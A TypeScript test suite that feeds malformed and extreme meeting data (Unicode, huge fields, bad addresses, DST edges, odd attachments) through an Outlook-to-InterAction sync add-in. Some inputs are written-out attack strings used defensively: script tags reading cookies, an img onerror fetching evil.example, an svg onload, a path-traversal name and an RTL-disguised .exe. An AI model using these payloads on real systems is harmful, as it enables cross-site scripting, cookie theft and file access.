// Bad input corpus, part 1: what users and Outlook put into meetings. Each case goes through the REAL use-case,
// client and sandbox; each checks what the user is told (the exact sentence), that nothing crashed or hung, and that
// InterAction holds what Outlook holds (nothing lost, nothing invented).
import { createHash } from "node:crypto";
import type { AttachmentInfo, Attendee } from "../../src/core/meeting";
import { messages } from "../../src/core/messages";
import { useReliabilitySandbox } from "../support/reliabilitySandbox";
import { addMeeting, NOW } from "./support";

const box = useReliabilitySandbox({ clock: NOW });

const ADDED = messages.add.added;
const person = (email: string, name = "", type: Attendee["type"] = "required"): Attendee => ({
  email,
  name,
  type,
  response: "none",
});
const organizer: Attendee = {
  email: "alice@firm.example",
  name: "Alice Adams",
  type: "required",
  response: "organizer",
};

describe("subjects, locations and notes", () => {
  test.each([
    ["a Chinese and German subject", "季度审查 – Übernahmegespräch"],
    ["a right-to-left Arabic subject", "مراجعة الربع الثالث مع أكمي"],
    ["a Hebrew subject with bidi marks", "\u202Bפגישת לקוח\u202C Q3"],
    ["an emoji subject with ZWJ sequences", "🚀 Launch 👩‍👩‍👧‍👦 review 🇨🇭"],
    ["a subject with combining characters (NFD)", "Cafe\u0301 re\u0301sume\u0301"],
    ["a subject with zero-width characters inside", "Acme\u200B\u200Dreview"],
  ])("%s is stored exactly and the user is told it was added", async (_name, subject) => {
    const r = await addMeeting(box, { subject });
    expect(r.outcome.status).toBe("synced");
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.subject).toBe(subject);
  });

  test("an empty subject is added as empty, not refused", async () => {
    const r = await addMeeting(box, { subject: "" });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.subject).toBe("");
  });

  test("a byte-order mark or stray whitespace around the subject is trimmed", async () => {
    const r = await addMeeting(box, { subject: "\uFEFF  Acme review \u00A0" });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.subject).toBe("Acme review");
  });

  test("a whitespace-only subject is added as empty", async () => {
    const r = await addMeeting(box, { subject: " \t\n  " });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.subject).toBe("");
  });

  test("a 5,000-character subject is kept to InterAction's 1,000 characters, and the user is told", async () => {
    const r = await addMeeting(box, { subject: "S".repeat(5000) });
    expect(r.notifier.last?.message).toBe(
      "Added to InterAction. The subject was shortened to 1,000 characters for InterAction.",
    );
    expect(r.row?.subject).toBe("S".repeat(1000));
  });

  test("HTML and script in the notes are stored as plain text, verbatim", async () => {
    const notes = `<script>alert(document.cookie)</script>\n<img src=x onerror="fetch('https://evil.example')">\n<b>Agenda</b>`;
    const r = await addMeeting(box, { notes });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.notes).toBe(notes);
  });

  test("script in the subject and location is stored as text", async () => {
    const r = await addMeeting(box, { subject: "<script>x()</script>", location: `"><svg onload=alert(1)>` });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect([r.row?.subject, r.row?.location]).toEqual(["<script>x()</script>", `"><svg onload=alert(1)>`]);
  });

  test("control characters in the notes do not break the request", async () => {
    const notes = "tab\there\u0007bell\u001bescape\u0000nul";
    const r = await addMeeting(box, { notes });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.notes).toBe(notes);
  });

  test("a lone surrogate (a half emoji cut by another client) does not break the request", async () => {
    const r = await addMeeting(box, { subject: "Review \uD83D end" });
    expect(r.outcome.status).toBe("synced");
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.subject.startsWith("Review ")).toBe(true);
  });

  test("300,000 characters of notes are kept to InterAction's 200,000", async () => {
    const r = await addMeeting(box, { notes: "n".repeat(300_000) });
    expect(r.notifier.last?.message).toBe(
      "Added to InterAction. The notes were shortened to 200,000 characters for InterAction.",
    );
    expect(r.row?.notes.length).toBe(200_000);
  });

  test("Windows line endings in the notes are stored as plain newlines", async () => {
    const r = await addMeeting(box, { notes: "line one\r\nline two\r\n" });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.notes).toBe("line one\nline two");
  });

  test("a location with an emoji and a line break is stored on one line", async () => {
    const r = await addMeeting(box, { location: "Zürich 🏔\nRoom 4" });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.location).toBe("Zürich 🏔 Room 4");
  });
});

describe("attendees", () => {
  test("1,000 attendees are all stored", async () => {
    const many = Array.from({ length: 999 }, (_, i) => person(`guest${i}@newco.example`, `Guest ${i}`));
    const r = await addMeeting(box, { attendees: [organizer, ...many] });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.attendees).toHaveLength(1000);
  });

  test("1,500 attendees: the required ones are kept within InterAction's 1,000", async () => {
    const optional = Array.from({ length: 1200 }, (_, i) => person(`opt${i}@newco.example`, `Opt ${i}`, "optional"));
    const required = Array.from({ length: 299 }, (_, i) => person(`req${i}@newco.example`, `Req ${i}`));
    const r = await addMeeting(box, { attendees: [...optional, organizer, ...required] });
    expect(r.notifier.last?.message).toBe(
      "Added to InterAction. 500 attendees were left out: InterAction takes at most 1,000 (optional ones go first).",
    );
    expect(r.attendees).toHaveLength(1000);
    expect(r.attendees.filter((a) => a.type === "required")).toHaveLength(300);
  });

  test("invalid addresses are left out; the meeting and every valid attendee still reach InterAction", async () => {
    const r = await addMeeting(box, {
      attendees: [
        organizer,
        person("not-an-address", "Broken"),
        person("two@@at.example", "Two ats"),
        person("space in@newco.example", "Space"),
        person("x@", "No domain"),
        person("", "Empty"),
        person("carol@acme.example", "Carol Jones"),
      ],
    });
    // Five entries are dropped; three are named, the empty address under the name Outlook shows.
    expect(r.notifier.last?.message).toBe(
      "Added to InterAction. 5 attendee addresses could not be read and were left out: " +
        "not-an-address, two@@at.example, space in@newco.example.",
    );
    expect(r.attendees.map((a) => a.email).sort()).toEqual(["alice@firm.example", "carol@acme.example"]);
  });

  test("the same address twice in different spellings is one attendee, with the stronger role", async () => {
    const r = await addMeeting(box, {
      attendees: [
        organizer,
        person("Carol@Acme.Example ", "Carol", "optional"),
        { ...person("carol@acme.example", "Carol Jones"), response: "accepted" },
      ],
    });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.attendees.filter((a) => a.email === "carol@acme.example")).toEqual([
      { email: "carol@acme.example", name: "Carol Jones", type: "required", response: "accepted" },
    ]);
  });

  test("an attendee without a display name is stored under the address", async () => {
    const r = await addMeeting(box, { attendees: [organizer, person("zoe@newco.example", "   ")] });
    // Nothing is lost (the address is the identity), so the user sees the plain confirmation.
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.attendees.find((a) => a.email === "zoe@newco.example")?.name).toBe("zoe@newco.example");
  });

  test("a 1,000-character display name is shortened, the attendee kept", async () => {
    const r = await addMeeting(box, { attendees: [organizer, person("long@newco.example", "N".repeat(1000))] });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.attendees.find((a) => a.email === "long@newco.example")?.name.length).toBeLessThanOrEqual(400);
  });

  test("a meeting with no attendees at all is added", async () => {
    const r = await addMeeting(box, { attendees: [] });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.attendees.map((a) => a.email)).toEqual(["alice@firm.example"]);
  });
});

describe("times", () => {
  test("a zero-length meeting (start equals end) is added", async () => {
    const r = await addMeeting(box, { start: "2026-11-27T10:00:00.000Z", end: "2026-11-27T10:00:00.000Z" });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect([r.row?.start_at, r.row?.end_at]).toEqual(["2026-11-27T10:00:00.000Z", "2026-11-27T10:00:00.000Z"]);
  });

  test("a three-day offsite is added with its whole span", async () => {
    const r = await addMeeting(box, { start: "2026-11-30T08:00:00.000Z", end: "2026-12-03T17:00:00.000Z" });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.row?.end_at).toBe("2026-12-03T17:00:00.000Z");
  });

  test("a timed meeting from local midnight to midnight (no all-day flag; see allDay.test.ts) keeps its exact instants", async () => {
    const r = await addMeeting(box, { start: "2026-11-27T00:00:00+01:00", end: "2026-11-28T00:00:00+01:00" });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect([r.row?.start_at, r.row?.end_at]).toEqual(["2026-11-26T23:00:00.000Z", "2026-11-27T23:00:00.000Z"]);
  });

  test("a meeting across the European DST change keeps its real duration", async () => {
    // 2027-10-31 02:30 happens twice in Zürich: first in summer time (+02:00), an hour later in winter time.
    const r = await addMeeting(box, { start: "2027-10-31T02:30:00+02:00", end: "2027-10-31T02:30:00+01:00" });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect([r.row?.start_at, r.row?.end_at]).toEqual(["2027-10-31T00:30:00.000Z", "2027-10-31T01:30:00.000Z"]);
  });

  test("a meeting at the US spring-forward gap keeps the instants Outlook gave", async () => {
    const r = await addMeeting(box, { start: "2027-03-14T01:30:00-05:00", end: "2027-03-14T03:30:00-04:00" });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect([r.row?.start_at, r.row?.end_at]).toEqual(["2027-03-14T06:30:00.000Z", "2027-03-14T07:30:00.000Z"]);
  });

  test("a meeting that ended yesterday is added as an activity", async () => {
    const r = await addMeeting(box, { start: "2026-11-24T10:00:00.000Z", end: "2026-11-24T11:00:00.000Z" });
    expect(r.outcome.status).toBe("activity");
    expect(r.outcome.record?.kind).toBe("activity");
    // The user learns it became an activity and until when later changes still reach InterAction.
    expect(r.notifier.last?.message).toBe(
      `Added to InterAction as an activity (the meeting has ended); it keeps syncing until ${r.outcome.record?.syncUntil.slice(0, 10)}.`,
    );
  });

  test("a meeting that ended a month ago is refused with the reason", async () => {
    const r = await addMeeting(box, { start: "2026-10-20T10:00:00.000Z", end: "2026-10-20T11:00:00.000Z" });
    expect(r.notifier.last?.message).toBe(messages.lifecycle.tooOld);
    expect(r.row).toBeUndefined();
  });

  test("an end before the start (a corrupt item) is refused by InterAction with the field named, and kept for Retry", async () => {
    const r = await addMeeting(box, { start: "2026-11-27T11:00:00.000Z", end: "2026-11-27T10:00:00.000Z" });
    expect(r.outcome.status).toBe("error");
    expect(r.notifier.last?.message).toMatch(
      /^InterAction refused the change: The meeting is not valid\. \(body\.end is before start\)/,
    );
    expect(r.outcome.queued).toBe(1);
  });

  test("an unreadable start time is refused with the field named, never crashing the run", async () => {
    const r = await addMeeting(box, { start: "next Tuesday-ish" });
    expect(r.outcome.status).toBe("error");
    expect(r.notifier.last?.message).toMatch(/^InterAction refused the change: .*start/);
  });
});

describe("meetings InterAction does not take", () => {
  test.each([
    ["a recurring meeting", { isRecurring: true }, messages.eligibility.recurring],
    ["a private meeting", { sensitivity: "private" as const }, messages.eligibility.private],
  ])("%s is refused with the reason and nothing is written", async (_name, patch, message) => {
    const r = await addMeeting(box, patch);
    expect(r.notifier.last?.message).toBe(message);
    expect(box.meetings()).toHaveLength(0);
  });

  test("a colleague's internal meeting opened by an attendee is refused with the reason", async () => {
    const r = await addMeeting(box, {
      role: "attendee",
      userResponse: "accepted",
      organizer: { email: "bob@firm.example", name: "Bob" },
    });
    expect(r.notifier.last?.message).toBe(messages.eligibility.internalMeeting);
    expect(box.meetings()).toHaveLength(0);
  });

  test("an external invitation not yet accepted is refused with the reason", async () => {
    const r = await addMeeting(box, {
      role: "attendee",
      userResponse: "none",
      organizer: { email: "erin@globex.example", name: "Erin" },
    });
    expect(r.notifier.last?.message).toBe(messages.eligibility.notAccepted);
  });
});

describe("attachments", () => {
  const file = (id: string, name: string, size: number, extra: Partial<AttachmentInfo> = {}): AttachmentInfo => ({
    id,
    name,
    size,
    contentType: "application/octet-stream",
    isInline: false,
    kind: "file",
    ...extra,
  });
  const bytes = (n: number, seed = 7) => Buffer.alloc(n, seed);
  const content = (b: Buffer) => ({ base64: b.toString("base64"), contentType: "application/octet-stream" });

  test("a 0-byte attachment becomes an empty document", async () => {
    const r = await addMeeting(
      box,
      { attachments: [file("a0", "empty.txt", 0)] },
      { content: { a0: content(bytes(0)) } },
    );
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.documents.map((d) => [d.name, d.size])).toEqual([["empty.txt", 0]]);
  });

  test("a 25 MB attachment is uploaded whole", async () => {
    const big = bytes(25 * 1024 * 1024, 42);
    const r = await addMeeting(
      box,
      { attachments: [file("a25", "Data room.zip", big.length)] },
      { content: { a25: content(big) } },
    );
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.documents).toEqual([
      expect.objectContaining({
        name: "Data room.zip",
        size: big.length,
        sha256: createHash("sha256").update(big).digest("hex"),
      }),
    ]);
  }, 60_000);

  test("a 31 MB attachment is refused as too large, with the limit in words, and the meeting is still added", async () => {
    const huge = bytes(31 * 1024 * 1024, 1);
    const r = await addMeeting(
      box,
      { attachments: [file("a31", "Scan.pdf", huge.length)] },
      { content: { a31: content(huge) } },
    );
    expect(r.row).toBeDefined();
    expect(r.documents).toHaveLength(0);
    expect(r.notifier.last?.message).toMatch(/30 MB/);
  }, 60_000);

  test.each([
    ["a path-traversal name", "../../etc/passwd"],
    ["a Windows device name", "CON.txt"],
    ["quotes, semicolons and a newline", 'Offer "final";\nv2.pdf'],
    ["an RTL override that disguises the extension", "invoice\u202Efdp.exe"],
    ["an emoji and percent signs", "📎 100% %2F done.docx"],
    ["a 300-character name", `${"x".repeat(296)}.pdf`],
  ])("an attachment with %s is stored under a safe, recognizable name", async (_name, name) => {
    const b = bytes(10);
    const r = await addMeeting(box, { attachments: [file("odd", name, b.length)] }, { content: { odd: content(b) } });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.documents).toHaveLength(1);
    const stored = r.documents[0]!.name;
    const printable = [...name].filter((ch) => ch.charCodeAt(0) >= 0x20 && ch.charCodeAt(0) !== 0x7f).join("");
    expect([...stored].some((ch) => ch.charCodeAt(0) < 0x20 || ch.charCodeAt(0) === 0x7f)).toBe(false);
    expect(stored).toBe(printable.trim());
  });

  test("inline pictures and cloud links stay in Outlook", async () => {
    const r = await addMeeting(box, {
      attachments: [
        file("img", "image001.png", 100, { isInline: true, contentType: "image/png" }),
        file("cloud", "Deck.pptx", 0, { kind: "cloud" }),
      ],
    });
    expect(r.notifier.last?.message).toBe(ADDED);
    expect(r.documents).toHaveLength(0);
  });

  test("an attachment Outlook cannot hand over is named in the message, kept queued, and uploaded once it can", async () => {
    const b = bytes(30);
    const r = await addMeeting(box, { attachments: [] });
    r.item.snapshot.attachments.push(file("bud", "Budget.xlsx", b.length));
    r.item.content = { bud: content(b) };
    r.item.failAttachmentReads = 5;
    const unreadable = await r.run({ kind: "open" });
    expect(unreadable.notice?.message).toBe(
      messages.pending.queuedBecause(messages.failure.attachmentUnreadable("Budget.xlsx")),
    );
    expect(unreadable.queued).toBe(1);
    r.item.failAttachmentReads = 0;
    (r.deps.clock as unknown as { advance(ms: number): void }).advance(3_600_000);
    expect((await r.run({ kind: "retry" })).status).toBe("synced");
    expect(box.documentsOf(r.row!.id).map((d) => d.name)).toEqual(["Budget.xlsx"]);
  });
});
